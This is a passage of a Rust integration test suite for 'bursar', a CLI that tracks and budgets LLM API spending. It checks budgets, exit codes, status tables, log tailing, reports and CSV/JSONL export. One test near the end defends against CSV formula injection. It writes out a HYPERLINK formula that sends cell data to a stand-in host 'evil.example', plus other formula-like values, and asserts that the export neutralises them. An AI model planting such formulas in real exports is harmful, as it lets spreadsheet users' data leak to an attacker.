//! The `bursar` CLI against real daemons: every verb, `--json` output, exit codes, offline mode,
//! export formats, replay figures, policy files.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use bursar_tests::{bin, bursar, bursar_command, Daemon};
use serde_json::{json, Value};
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::{Duration, Instant};

/// gpt-4o is $2.50 in / $10.00 out per million tokens: 1000 in + 100 out = $0.0035.
const CALL_MICROS: i64 = 3500;

/// One budget per team, $0.015 a day, warning at 40 % ($0.006).
const TEAM_POLICY: &str = r#"
[[budget]]
id = "team-daily"
group_by = ["team"]
window = "fixed"
window_seconds = 86400
max_usd = 0.015
warn_at = 0.4
"#;

fn record(d: &Daemon, team: &str, event_id: &str) -> Value {
    d.cli_json(&[
        "record",
        "--model",
        "gpt-4o",
        "--label",
        &format!("team={team}"),
        "--input-tokens",
        "1000",
        "--output-tokens",
        "100",
        "--event-id",
        event_id,
    ])
}

fn reserve_args<'a>(rid: &'a str, team: &'a str) -> Vec<String> {
    [
        "reserve",
        "--model",
        "gpt-4o",
        "--label",
        &format!("team={team}"),
        "--input-tokens",
        "1000",
        "--max-output-tokens",
        "100",
        "--reservation-id",
        rid,
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

fn strs(v: &[String]) -> Vec<&str> {
    v.iter().map(String::as_str).collect()
}

fn bucket<'a>(status: &'a Value, budget: &str, key: &str) -> &'a Value {
    status["budgets"]
        .as_array()
        .unwrap()
        .iter()
        .find(|b| b["budget"] == budget && b["key"] == key)
        .unwrap_or_else(|| panic!("no bucket {budget} {key} in {status}"))
}

fn event_count(d: &Daemon) -> u64 {
    d.cli_json(&["verify"])["events"].as_u64().unwrap()
}

fn assert_one_clean_error_line(stderr: &str) {
    assert_eq!(stderr.lines().count(), 1, "expected one line: {stderr:?}");
    assert!(stderr.starts_with("bursar: "), "{stderr:?}");
    assert!(!stderr.contains("panicked"), "{stderr:?}");
    assert!(!stderr.contains("backtrace"), "{stderr:?}");
}

#[test]
fn record_shows_dollars_and_json_keeps_micros() {
    let d = Daemon::start_with_config(TEAM_POLICY);
    let human = d
        .cli(&[
            "record",
            "--model",
            "gpt-4o",
            "--label",
            "team=a",
            "--input-tokens",
            "1000",
            "--output-tokens",
            "100",
            "--event-id",
            "e-1",
        ])
        .ok();
    assert!(
        human
            .stdout
            .starts_with("recorded e-1 (seq 2): cost $0.0035, state ok"),
        "{}",
        human.stdout
    );
    assert!(human.stdout.contains("team-daily"), "{}", human.stdout);
    assert!(
        human.stdout.contains("$0.0035 / $0.015"),
        "{}",
        human.stdout
    );

    // The same id and payload again: the original answer, counted once.
    let again = record(&d, "a", "e-1");
    assert_eq!(again["duplicate"], true);
    assert_eq!(again["cost_micros"], CALL_MICROS);
    assert_eq!(again["budgets"][0]["spent_micros"], CALL_MICROS);

    // Without --event-id every call gets its own id, so both count.
    for _ in 0..2 {
        d.cli_json(&[
            "record",
            "--model",
            "gpt-4o",
            "--label",
            "team=a",
            "--input-tokens",
            "1000",
            "--output-tokens",
            "100",
        ]);
    }
    let status = d.cli_json(&["status"]);
    assert_eq!(
        bucket(&status, "team-daily", "team=a")["spent_micros"],
        3 * CALL_MICROS
    );
    assert_eq!(
        bucket(&status, "team-daily", "team=a")["state"],
        "warn",
        "3 × $0.0035 of $0.015 is past warn_at 0.4"
    );

    // Every token kind and the audit fields reach the daemon.
    let v = d.cli_json(&[
        "record",
        "--model",
        "gpt-4o",
        "--label",
        "team=b",
        "--input-tokens",
        "1",
        "--output-tokens",
        "2",
        "--cached-input-tokens",
        "3",
        "--cache-write-tokens",
        "4",
        "--requests",
        "2",
        "--occurred-at",
        "2026-01-01T00:00:00Z",
        "--reported-cost-usd",
        "0.01",
    ]);
    assert_eq!(v["ok"], true);
    assert_eq!(v["budgets"][0]["spent_tokens"], 10);
    assert_eq!(v["budgets"][0]["spent_requests"], 2);
}

#[test]
fn reserve_extend_commit_release() {
    let d = Daemon::start_with_config(TEAM_POLICY);
    let r = d.cli_json(&strs(&reserve_args("r-1", "a")));
    assert_eq!(r["decision"], "allow");
    assert_eq!(r["hold_micros"], CALL_MICROS);
    assert!(r["expires_at"].is_string());

    let ext = d.cli(&["extend", "--reservation-id", "r-1", "--ttl-seconds", "600"]);
    let ext = ext.ok();
    assert!(
        ext.stdout.starts_with("extended r-1: expires 20"),
        "{}",
        ext.stdout
    );
    let ext_json = d.cli_json(&["extend", "--reservation-id", "r-1", "--ttl-seconds", "900"]);
    assert!(ext_json["expires_at"].as_str().unwrap() > r["expires_at"].as_str().unwrap());

    let held = d.cli_json(&["status", "--budget", "team-daily"]);
    assert_eq!(held["budgets"][0]["held_micros"], CALL_MICROS);

    let commit = d
        .cli(&[
            "commit",
            "--reservation-id",
            "r-1",
            "--event-id",
            "e-c1",
            "--input-tokens",
            "1000",
            "--output-tokens",
            "50",
        ])
        .ok();
    assert!(
        commit
            .stdout
            .starts_with("committed e-c1 (seq 5): cost $0.003, state ok"),
        "{}",
        commit.stdout
    );
    let after = d.cli_json(&["status"]);
    assert_eq!(after["budgets"][0]["held_micros"], 0);
    assert_eq!(after["budgets"][0]["spent_micros"], 3000);

    // A reservation released is gone; releasing it again with the same request is idempotent.
    d.cli_json(&strs(&reserve_args("r-2", "a")));
    let rel = d.cli(&["release", "--reservation-id", "r-2"]).ok();
    assert!(
        rel.stdout.starts_with("released r-2 (seq "),
        "{}",
        rel.stdout
    );
    let dup = d.cli_json(&["release", "--reservation-id", "r-2"]);
    assert_eq!(dup["duplicate"], true);
    assert_eq!(
        d.cli_json(&["status"])["budgets"][0]["held_micros"],
        0,
        "the released hold no longer counts"
    );

    // Unknown reservations: release is not_found (exit 1, one line), commit is still recorded.
    let missing = d.cli(&["release", "--reservation-id", "r-nope"]);
    assert_eq!(missing.code, Some(1));
    assert_one_clean_error_line(&missing.stderr);
    assert!(
        missing.stderr.starts_with("bursar: not_found: "),
        "{}",
        missing.stderr
    );
    let unknown = d.cli_json(&[
        "commit",
        "--reservation-id",
        "r-never",
        "--model",
        "gpt-4o",
        "--label",
        "team=a",
        "--input-tokens",
        "1000",
        "--output-tokens",
        "100",
    ]);
    assert_eq!(unknown["reservation"], "unknown");
    assert_eq!(unknown["cost_micros"], CALL_MICROS);
    let human = d
        .cli(&[
            "commit",
            "--reservation-id",
            "r-never-2",
            "--model",
            "gpt-4o",
            "--input-tokens",
            "10",
        ])
        .ok();
    assert!(
        human
            .stdout
            .contains("the daemon never saw this reservation"),
        "{}",
        human.stdout
    );

    // A denied reservation committed all the same: recorded with what it asked for, flagged.
    let mut big = reserve_args("r-big", "a");
    let at = big.iter().position(|a| a == "--input-tokens").unwrap();
    big[at + 1] = "100000000".into();
    let denied = d.cli(&strs(&big));
    assert_eq!(denied.code, Some(3), "{denied:?}");
    let human = d
        .cli(&[
            "commit",
            "--reservation-id",
            "r-big",
            "--input-tokens",
            "1000",
            "--output-tokens",
            "100",
        ])
        .ok();
    assert!(
        human
            .stdout
            .contains("this reservation was denied: spent without a hold"),
        "{}",
        human.stdout
    );
    let csv = d.cli(&["export", "--format", "csv"]).ok();
    let row = csv
        .stdout
        .lines()
        .find(|l| l.contains("r-big") && l.contains("usage_recorded"));
    let row = row.unwrap_or_else(|| panic!("no usage row of r-big in {}", csv.stdout));
    assert!(
        row.contains("reservation=denied") && row.contains("team=a"),
        "{row}"
    );
}

#[test]
fn a_deny_exits_3_and_a_warn_exits_0() {
    let d = Daemon::start_with_config(TEAM_POLICY);
    let check = d.cli(&[
        "check",
        "--model",
        "gpt-4o",
        "--label",
        "team=a",
        "--input-tokens",
        "1000",
        "--max-output-tokens",
        "100",
    ]);
    let check = check.ok();
    assert!(
        check
            .stdout
            .starts_with("allow: gpt-4o, would hold $0.0035"),
        "{}",
        check.stdout
    );
    record(&d, "a", "e-1");
    let warn = d.cli(&strs(&reserve_args("r-1", "a")));
    assert_eq!(warn.code, Some(0), "{}", warn.stderr);
    assert!(warn.stdout.starts_with("warn: gpt-4o"), "{}", warn.stdout);
    assert!(
        warn.stdout.contains("reservation r-1: expires"),
        "{}",
        warn.stdout
    );

    // $0.0105 spent + $0.0035 held + $0.0035 asked > $0.015.
    record(&d, "a", "e-2");
    record(&d, "a", "e-3");
    let deny = d.cli(&strs(&reserve_args("r-2", "a")));
    assert_eq!(deny.code, Some(3), "{}\n{}", deny.stdout, deny.stderr);
    assert!(deny.stdout.starts_with("deny: gpt-4o"), "{}", deny.stdout);
    assert!(deny.stdout.contains("reason: "), "{}", deny.stdout);
    assert!(
        deny.stderr.is_empty(),
        "a deny is an answer: {}",
        deny.stderr
    );

    let mut args = reserve_args("r-3", "a");
    args.insert(0, "--json".into());
    let deny_json = d.cli(&strs(&args));
    assert_eq!(deny_json.code, Some(3));
    assert_eq!(deny_json.json()["decision"], "deny");
    assert_eq!(deny_json.json()["reason"]["budget"], "team-daily");

    let check_deny = d.cli(&[
        "check",
        "--model",
        "gpt-4o",
        "--label",
        "team=a",
        "--input-tokens",
        "1000",
        "--max-output-tokens",
        "100",
    ]);
    assert_eq!(check_deny.code, Some(3));

    // Fallback: gpt-4o is over budget, gpt-4o-mini fits; the skip is explained.
    let pick = d.cli_json(&[
        "check",
        "--label",
        "team=a",
        "--candidate",
        "gpt-4o",
        "--candidate",
        "gpt-4o-mini",
        "--input-tokens",
        "1000",
        "--max-output-tokens",
        "100",
    ]);
    assert_eq!(pick["decision"], "warn", "allowed, but past warn_at");
    assert_eq!(pick["model"], "gpt-4o-mini");
    assert_eq!(pick["skipped"][0]["model"], "gpt-4o");
    assert_eq!(pick["skipped"][0]["reason"], "budget");

    // Denied reservations are in the log.
    let tail = d.cli(&["--json", "tail"]).ok().json_lines();
    assert!(tail.iter().any(|e| e["type"] == "reservation_denied"));
    assert!(tail.iter().any(|e| e["type"] == "budget_warned"));
}

#[test]
fn status_table_filters_and_watch() {
    let d = Daemon::start_with_config(TEAM_POLICY);
    record(&d, "a", "e-1");
    record(&d, "a", "e-2");
    record(&d, "b", "e-3");
    let table = d.cli(&["status"]).ok().stdout;
    let lines: Vec<&str> = table.lines().collect();
    assert!(
        lines[0].starts_with("BUDGET")
            && lines[0].contains("SCOPE")
            && lines[0].contains("SPENT / LIMIT")
            && lines[0].contains("HELD")
            && lines[0].contains("UTILIZATION")
            && lines[0].contains("STATE")
            && lines[0].contains("NEXT RESET"),
        "{table}"
    );
    // Most utilized first: team a (46 %) before team b (23 %).
    assert!(
        lines[1].contains("team=a") && lines[1].contains("$0.007 / $0.015"),
        "{table}"
    );
    assert!(lines[1].contains("[#########-----------]  46%"), "{table}");
    assert!(
        lines[1].contains("warn") && lines[1].contains("(in "),
        "{table}"
    );
    assert!(lines[2].contains("team=b"), "{table}");

    let only_b = d.cli_json(&["status", "--label", "team=b"]);
    assert_eq!(only_b["budgets"].as_array().unwrap().len(), 1);
    assert_eq!(only_b["budgets"][0]["key"], "team=b");
    let none = d.cli(&["status", "--label", "team=z"]).ok();
    assert_eq!(none.stdout, "no bucket matches the filter\n");
    let top = d.cli_json(&["status", "--limit", "1"]);
    assert_eq!(top["budgets"].as_array().unwrap().len(), 1);

    // --watch refreshes (here: not a terminal, so one table after another) until --count.
    let watch = d
        .cli(&["status", "--watch", "--interval", "0.05", "--count", "3"])
        .ok()
        .stdout;
    assert_eq!(
        watch.matches("bursar status at").count(),
        3,
        "three refreshes:\n{watch}"
    );
    let watch_json = d
        .cli(&[
            "--json",
            "status",
            "--watch",
            "--interval",
            "0.05",
            "--count",
            "2",
        ])
        .ok()
        .json_lines();
    assert_eq!(watch_json.len(), 2);
}

/// Per-team budgets of one org (`org` pinned by `match`), and a budget of tokens only.
const ORG_POLICY: &str = r#"
[[budget]]
id = "acme-teams"
match = { org = "acme" }
group_by = ["team"]
max_usd = 1

[[budget]]
id = "tokens"
max_tokens = 100000
"#;

/// `status` online and offline: an unknown budget is an error, a cut table says how many rows
/// there were, a label pinned by a budget's `match` finds its buckets, and what remains is shown
/// in the units of each limit.
#[test]
fn status_refuses_an_unknown_budget_says_when_it_cut_and_finds_pinned_labels() {
    let mut d = Daemon::start_with_config(ORG_POLICY);
    for (n, team) in ["a", "b", "c"].into_iter().enumerate() {
        d.cli_json(&[
            "record",
            "--model",
            "gpt-4o",
            "--label",
            "org=acme",
            "--label",
            &format!("team={team}"),
            "--input-tokens",
            &(1000 * (n + 1)).to_string(),
            "--output-tokens",
            "100",
        ]);
    }
    let check = |mode: &str, run: &dyn Fn(&[&str]) -> bursar_tests::CliOutput| {
        let unknown = run(&["status", "--budget", "acme-teamz"]);
        assert_eq!(unknown.code, Some(1), "{mode}: {unknown:?}");
        assert!(unknown.stdout.is_empty(), "{mode}: {unknown:?}");
        assert_one_clean_error_line(&unknown.stderr);
        assert!(
            unknown.stderr.contains("not_found") && unknown.stderr.contains("acme-teamz"),
            "{mode}: {}",
            unknown.stderr
        );

        let cut = run(&["status", "--limit", "2"]).ok().stdout;
        assert_eq!(
            cut.lines().count(),
            1 + 2 + 1,
            "{mode}: header, 2 rows, a note:\n{cut}"
        );
        assert!(
            cut.ends_with(
                "showing 2 of 4 buckets (the most utilized); a larger --limit shows more\n"
            ),
            "{mode}:\n{cut}"
        );
        let whole = run(&["status"]).ok().stdout;
        assert!(!whole.contains("showing"), "{mode}: nothing cut:\n{whole}");
        let cut_json = run(&["--json", "status", "--limit", "2"]).ok().json();
        assert_eq!(cut_json["total"], 4, "{mode}: {cut_json}");
        assert_eq!(cut_json["truncated"], true, "{mode}: {cut_json}");

        let acme = run(&["--json", "status", "--label", "org=acme"])
            .ok()
            .json();
        let keys: Vec<&str> = acme["budgets"]
            .as_array()
            .unwrap()
            .iter()
            .map(|b| b["key"].as_str().unwrap())
            .collect();
        assert_eq!(keys, ["team=c", "team=b", "team=a"], "{mode}: {acme}");
        let acme_b = run(&[
            "--json", "status", "--label", "org=acme", "--label", "team=b",
        ])
        .ok()
        .json();
        assert_eq!(acme_b["total"], 1, "{mode}: {acme_b}");

        // 6000 + 300 tokens of 100000 used: the tokens-only budget shows tokens left, no dollars.
        let table = run(&["status", "--budget", "tokens"]).ok().stdout;
        assert!(
            table.lines().next().unwrap().contains("REMAINING"),
            "{mode}:\n{table}"
        );
        let row = table.lines().nth(1).unwrap();
        assert!(
            row.contains("6300 / 100000 tok") && row.contains("93700 tok"),
            "{mode}:\n{table}"
        );
        assert!(
            !row.contains('$'),
            "{mode}: no spend limit, no dollars:\n{table}"
        );
        let teams = run(&["status", "--budget", "acme-teams"]).ok().stdout;
        assert!(
            teams.contains("$0.0085 / $1.00") && teams.contains("$0.9915"),
            "{mode}:\n{teams}"
        );
    };
    check("online", &|args| d.cli(args));
    assert!(d.terminate().success());
    check("offline", &|args| d.offline(args));
}

#[test]
fn the_socket_comes_from_the_flag_the_environment_or_the_default() {
    let d = Daemon::start();
    let socket = d.socket.to_str().unwrap();
    let via_env = bursar_command(&["--json", "status"])
        .env("BURSAR_SOCKET", socket)
        .output()
        .unwrap();
    assert!(via_env.status.success());
    // The daemon's default: $XDG_RUNTIME_DIR/bursar.sock (the test daemon's socket is there).
    let via_default = bursar_command(&["--json", "status"])
        .env("XDG_RUNTIME_DIR", d.dir.path())
        .output()
        .unwrap();
    assert!(
        via_default.status.success(),
        "{}",
        String::from_utf8_lossy(&via_default.stderr)
    );
    // The flag wins over the environment.
    let flag = bursar_command(&["--socket", socket, "--json", "status"])
        .env("BURSAR_SOCKET", "/nonexistent/bursar.sock")
        .output()
        .unwrap();
    assert!(flag.status.success());
}

#[test]
fn tail_shows_the_last_events_and_follows_new_ones() {
    // The default policy only meters: no warning events between the records.
    let d = Daemon::start();
    for i in 0..12 {
        record(&d, "a", &format!("e-{i}"));
    }
    let last = d.cli(&["--json", "tail"]).ok().json_lines();
    assert_eq!(last.len(), 10, "the last 10 events");
    assert_eq!(last[9]["seq"], 13);
    assert_eq!(last[9]["body"]["usage_recorded"]["event_id"], "e-11");
    let all = d
        .cli(&["--json", "tail", "--from-seq", "1"])
        .ok()
        .json_lines();
    assert_eq!(all.len(), 13);
    assert_eq!(all[0]["type"], "policy_applied");
    // -n N: the last N, more or fewer than the default ten, from the daemon and offline.
    for n in [3u64, 12] {
        let seqs = |lines: Vec<Value>| -> Vec<u64> {
            lines.iter().map(|e| e["seq"].as_u64().unwrap()).collect()
        };
        let want: Vec<u64> = (14 - n..=13).collect();
        let n_text = n.to_string();
        assert_eq!(
            seqs(d.cli(&["--json", "tail", "-n", &n_text]).ok().json_lines()),
            want
        );
        assert_eq!(
            seqs(
                d.cli(&["--json", "tail", "--lines", &n_text])
                    .ok()
                    .json_lines()
            ),
            want
        );
    }
    let human = d.cli(&["tail"]).ok().stdout;
    assert_eq!(human.lines().count(), 10);
    assert!(
        human.lines().last().unwrap().contains("usage_recorded")
            && human.contains("e-11 gpt-4o in=1000 out=100 $0.0035 [team=a]"),
        "{human}"
    );

    // -f: only new events, as they are written.
    let mut child = bursar_command(&[
        "--socket",
        d.socket.to_str().unwrap(),
        "--json",
        "tail",
        "-f",
    ])
    .stdout(Stdio::piped())
    .stderr(Stdio::piped())
    .spawn()
    .unwrap();
    let stdout = child.stdout.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for line in BufReader::new(stdout).lines() {
            if tx.send(line.unwrap()).is_err() {
                break;
            }
        }
    });
    // The follower starts after whatever is already there; keep writing until it sees one.
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut n = 0;
    let line = loop {
        record(&d, "a", &format!("new-{n}"));
        n += 1;
        if let Ok(line) = rx.recv_timeout(Duration::from_millis(200)) {
            break line;
        }
        assert!(Instant::now() < deadline, "tail -f showed nothing");
    };
    let _ = child.kill();
    let _ = child.wait();
    let ev: Value = serde_json::from_str(&line).unwrap();
    assert!(ev["seq"].as_u64().unwrap() > 13, "only new events: {ev}");
    assert!(ev["body"]["usage_recorded"]["event_id"]
        .as_str()
        .unwrap()
        .starts_with("new-"));
}

#[test]
fn tail_follow_by_type_gives_alerting_scripts_one_json_line_per_crossing() {
    let d = Daemon::start_with_config(TEAM_POLICY);
    // Team a: warned at the 2nd call ($0.007 of $0.015), exhausted at the 5th ($0.0175).
    for i in 0..5 {
        record(&d, "a", &format!("a-{i}"));
    }
    let mut child = bursar_command(&[
        "--socket",
        d.socket.to_str().unwrap(),
        "--json",
        "tail",
        "-f",
        "--from-seq",
        "1",
        "--type",
        "budget_warned,budget_exhausted",
    ])
    .stdout(Stdio::piped())
    .stderr(Stdio::piped())
    .spawn()
    .unwrap();
    let stdout = child.stdout.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for line in BufReader::new(stdout).lines() {
            if tx.send(line.unwrap()).is_err() {
                break;
            }
        }
    });
    let next = || -> Value {
        let line = rx
            .recv_timeout(Duration::from_secs(20))
            .expect("a crossing line");
        serde_json::from_str(&line).unwrap()
    };
    let (w, x) = (next(), next());
    assert_eq!(
        (
            w["type"].as_str(),
            w["body"]["budget_warned"]["key"].as_str()
        ),
        (Some("budget_warned"), Some("team=a"))
    );
    assert_eq!(x["type"], "budget_exhausted", "{x}");
    // Then new crossings as they happen (team b), and nothing else.
    for i in 0..2 {
        record(&d, "b", &format!("b-{i}"));
    }
    let w = next();
    assert_eq!(w["type"], "budget_warned");
    assert_eq!(w["body"]["budget_warned"]["key"], "team=b");
    assert!(
        rx.recv_timeout(Duration::from_millis(300)).is_err(),
        "only crossings are shown"
    );
    let _ = child.kill();
    let _ = child.wait();

    // A type that does not exist is refused, naming it, by the daemon and offline.
    let bad = d.cli(&["tail", "--type", "budget_exausted"]);
    assert_ne!(bad.code, Some(0));
    assert!(bad.stderr.contains("budget_exausted"), "{}", bad.stderr);
    let mut c = d.client();
    let a = c.call(json!({"op":"tail","types":["nope"]}));
    assert_eq!(a["error"]["field"], "types", "{a}");
    // An empty list would show nothing, for ever with follow: refused.
    let a = c.call(json!({"op":"tail","types":[],"follow":true}));
    assert_eq!(a["error"]["field"], "types", "{a}");
    // Offline, the same filter.
    let mut d = d;
    d.terminate();
    let offline = d
        .offline(&[
            "--json",
            "tail",
            "--from-seq",
            "1",
            "--type",
            "budget_exhausted",
        ])
        .ok()
        .json_lines();
    assert_eq!(offline.len(), 1);
    assert_eq!(offline[0]["body"]["budget_exhausted"]["key"], "team=a");
}

#[test]
fn report_shows_spend_per_day_by_team_as_a_table_csv_and_json() {
    let d = Daemon::start_with_config(TEAM_POLICY);
    record(&d, "a", "e-1");
    record(&d, "a", "e-2");
    record(&d, "b", "e-3");
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_micros() as i64;
    let today = bursar_core::time::format_ts(now);
    let day = &today[..10];
    let table = d.cli(&["report", "--by", "team"]).ok().stdout;
    let lines: Vec<&str> = table.lines().collect();
    assert!(
        lines[0].starts_with("PERIOD") && lines[0].contains("TEAM") && lines[0].contains("COST"),
        "{table}"
    );
    assert!(
        lines[1].starts_with(day) && lines[1].contains(" a "),
        "{table}"
    );
    assert!(lines[1].contains("$0.007"), "two calls of $0.0035: {table}");
    assert!(
        lines[2].contains(" b ") && lines[2].contains("$0.0035"),
        "{table}"
    );
    assert!(
        lines[3].starts_with("TOTAL") && lines[3].contains("$0.0105"),
        "{table}"
    );
    let csv = d
        .cli(&["report", "--by", "team", "--format", "csv"])
        .ok()
        .stdout;
    let rows: Vec<&str> = csv.lines().collect();
    assert_eq!(
        rows[0],
        "period_start,group,cost_micros,cost_usd,input_tokens,cached_input_tokens,\
         output_tokens,requests,denied"
    );
    assert_eq!(
        rows[1],
        format!("{day}T00:00:00Z,team=a,7000,0.007,2000,0,200,2,0")
    );
    let j = d.cli_json(&["report", "--by", "team,model", "--label", "team=b"]);
    assert_eq!(j["rows"].as_array().unwrap().len(), 1, "{j}");
    assert_eq!(j["rows"][0]["group"], json!({"team":"b","model":"gpt-4o"}));
    assert_eq!(j["rows"][0]["cost_micros"], CALL_MICROS);
    // Charts: a stacked bar chart by team as SVG and PNG files, bars on the terminal.
    let svg_path = d.dir.path().join("cost.svg");
    d.cli(&[
        "report",
        "--by",
        "team",
        "--format",
        "svg",
        "-o",
        svg_path.to_str().unwrap(),
    ])
    .ok();
    let svg = std::fs::read_to_string(&svg_path).unwrap();
    assert!(svg.starts_with("<svg") || svg.starts_with("<?xml"), "{svg}");
    for text in ["team=a", "team=b", "Cost per day by team", day] {
        assert!(svg.contains(text), "{text} in the SVG");
    }
    let png_path = d.dir.path().join("cost.png");
    d.cli(&[
        "report",
        "--by",
        "team",
        "--format",
        "png",
        "-o",
        png_path.to_str().unwrap(),
    ])
    .ok();
    let png = std::fs::read(&png_path).unwrap();
    assert!(png.starts_with(b"\x89PNG\r\n\x1a\n"), "a PNG file");
    let bars = d.cli(&["report", "--by", "team", "--chart"]).ok().stdout;
    assert!(bars.contains('█') && bars.contains("$0.0105"), "{bars}");
    // A label the rollups leave out is refused, saying why.
    let bad = d.cli(&["report", "--by", "session"]);
    assert_ne!(bad.code, Some(0));
    assert!(bad.stderr.contains("exclude_labels"), "{}", bad.stderr);
    // Offline, from the stopped daemon's data dir: the same rows.
    let mut d = d;
    d.terminate();
    let offline = d.offline(&["--json", "report", "--by", "team"]).ok().json();
    assert_eq!(offline["rows"].as_array().unwrap().len(), 2, "{offline}");
    assert_eq!(offline["rows"][0]["cost_micros"], 2 * CALL_MICROS);
}

#[test]
fn export_csv_and_jsonl_have_one_line_per_event() {
    let d = Daemon::start_with_config(TEAM_POLICY);
    record(&d, "a", "e-1");
    record(&d, "b", "e-2");
    d.cli_json(&strs(&reserve_args("r-1", "a")));
    d.cli_json(&["release", "--reservation-id", "r-1"]);
    let mut c = d.client();
    c.call(
        json!({"op":"record","event_id":"e,\"quoted\"","labels":{"team":"a, with comma"},
                  "model":"gpt-4o","usage":{"input_tokens":1}}),
    );
    let events = event_count(&d);
    assert!(events >= 6);

    let csv = d.cli(&["export", "--format", "csv"]).ok().stdout;
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(
        lines[0],
        "seq,ts,time,type,actor_uid,actor_gid,actor_pid,event_id,reservation_id,model,labels,\
         input_tokens,output_tokens,cached_input_tokens,cache_write_tokens,requests,cost_micros,\
         cost_usd,price_version,hold_micros,budget,scope,detail,prev_hash,hash"
    );
    assert_eq!(lines.len() as u64, events + 1, "header + one row per event");
    let e1 = lines.iter().find(|l| l.contains(",e-1,")).unwrap();
    assert!(
        e1.contains(",gpt-4o,\"model=gpt-4o,provider=openai,team=a,tier=default\",1000,100,0,0,1,3500,0.0035,1,"),
        "{e1}"
    );
    assert!(
        csv.contains("\"e,\"\"quoted\"\"\""),
        "quotes and commas are escaped: {csv}"
    );

    let jsonl = d.cli(&["export"]).ok().json_lines();
    assert_eq!(jsonl.len() as u64, events);
    assert_eq!(jsonl[1]["type"], "usage_recorded");
    assert_eq!(jsonl[1]["cost_micros"], CALL_MICROS);
    assert!(jsonl.windows(2).all(|w| w[1]["prev_hash"] == w[0]["hash"]));
    // SPEC §7's envelope: its version too.
    assert!(jsonl.iter().all(|e| e["version"] == 2), "{:?}", jsonl[0]);

    // Filters: labels, time range.
    let only_b = d
        .cli(&["export", "--format", "jsonl", "--label", "team=b"])
        .ok()
        .json_lines();
    assert_eq!(only_b.len(), 1);
    let future = d
        .cli(&[
            "export",
            "--format",
            "csv",
            "--since",
            "2999-01-01T00:00:00Z",
        ])
        .ok()
        .stdout;
    assert_eq!(future.lines().count(), 1, "only the header");
    let past = d
        .cli(&["export", "--until", "2000-01-01T00:00:00Z"])
        .ok()
        .stdout;
    assert!(past.is_empty());
    // Durations before now: the last hour holds every event, before a day ago none.
    let hour = d
        .cli(&["export", "--format", "jsonl", "--since", "1h"])
        .ok()
        .json_lines();
    assert_eq!(hour.len() as u64, events);
    let week = d
        .cli(&["export", "--format", "jsonl", "--since", "7d"])
        .ok()
        .json_lines();
    assert_eq!(week.len() as u64, events, "SPEC §9's form: 7d");
    let day_ago = d.cli(&["export", "--until", "1day"]).ok().stdout;
    assert!(day_ago.is_empty(), "{day_ago}");
    let bad = d.cli(&["export", "--since", "yesterdayish"]);
    assert_eq!(bad.code, Some(1));
    assert!(
        bad.stderr.contains("--since") && bad.stderr.contains("duration before now"),
        "{}",
        bad.stderr
    );

    // -o FILE: written whole, a note on stderr, nothing on stdout.
    let file = d.dir.path().join("audit.csv");
    let to_file = d
        .cli(&["export", "--format", "csv", "-o", file.to_str().unwrap()])
        .ok();
    assert!(to_file.stdout.is_empty());
    assert_eq!(
        to_file.stderr,
        format!("exported {events} events to {}\n", file.display())
    );
    assert_eq!(std::fs::read_to_string(&file).unwrap(), csv);
    let leftovers: Vec<_> = std::fs::read_dir(d.dir.path())
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().contains("partial"))
        .collect();
    assert!(leftovers.is_empty());

    // A bad time is one clear error line.
    let bad = d.cli(&["export", "--since", "yesterday"]);
    assert_eq!(bad.code, Some(1));
    assert_one_clean_error_line(&bad.stderr);
    assert!(bad.stderr.contains("RFC 3339"), "{}", bad.stderr);
}

/// The cells of a CSV text (RFC 4180: quoted cells may hold `,`, `""` and line breaks).
fn csv_records(text: &str) -> Vec<Vec<String>> {
    let (mut records, mut record, mut cell) = (Vec::new(), Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                record.push(std::mem::take(&mut cell));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => cell.push(c),
        }
    }
    assert!(
        !quoted && cell.is_empty() && record.is_empty(),
        "CSV ends mid-line"
    );
    records
}

#[test]
fn exported_csv_shows_agent_chosen_formulas_as_text_and_keeps_numbers_numbers() {
    let d = Daemon::start_with_config(TEAM_POLICY);
    let mut c = d.client();
    let link = r#"=HYPERLINK("http://evil.example/?d="&A1,"click")"#;
    let a = c.call(
        json!({"op":"record","event_id":link,"labels":{"team":"+SUM(1;2)"},
                          "model":"@evil","usage":{"input_tokens":1}}),
    );
    assert_eq!(a["ok"], true, "{a}");
    let r = c.call(
        json!({"op":"reserve","reservation_id":"-2+3","labels":{"team":"a"},
                          "model":"gpt-4o","estimate":{"input_tokens":1,"max_output_tokens":1}}),
    );
    assert_eq!(r["ok"], true, "{r}");

    let csv = d.cli(&["export", "--format", "csv"]).ok().stdout;
    assert!(
        csv.contains(r#","'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")","#),
        "neutralised, then quoted as CSV requires:\n{csv}"
    );
    let records = csv_records(&csv);
    let header = &records[0];
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let usage = records
        .iter()
        .find(|r| r[column("type")] == "usage_recorded")
        .unwrap();
    assert_eq!(usage[column("event_id")], format!("'{link}"));
    assert_eq!(usage[column("model")], "'@evil");
    assert!(
        usage[column("labels")].contains("team=+SUM(1;2)"),
        "{usage:?}"
    );
    let hold = records
        .iter()
        .find(|r| r[column("type")] == "reservation_created")
        .unwrap();
    assert_eq!(hold[column("reservation_id")], "'-2+3");
    // No cell a spreadsheet would run as a formula; the daemon's numbers stay plain numbers.
    let numbers = [
        "seq",
        "ts",
        "actor_uid",
        "actor_gid",
        "actor_pid",
        "input_tokens",
        "output_tokens",
        "cached_input_tokens",
        "cache_write_tokens",
        "requests",
        "cost_micros",
        "cost_usd",
        "price_version",
        "hold_micros",
    ];
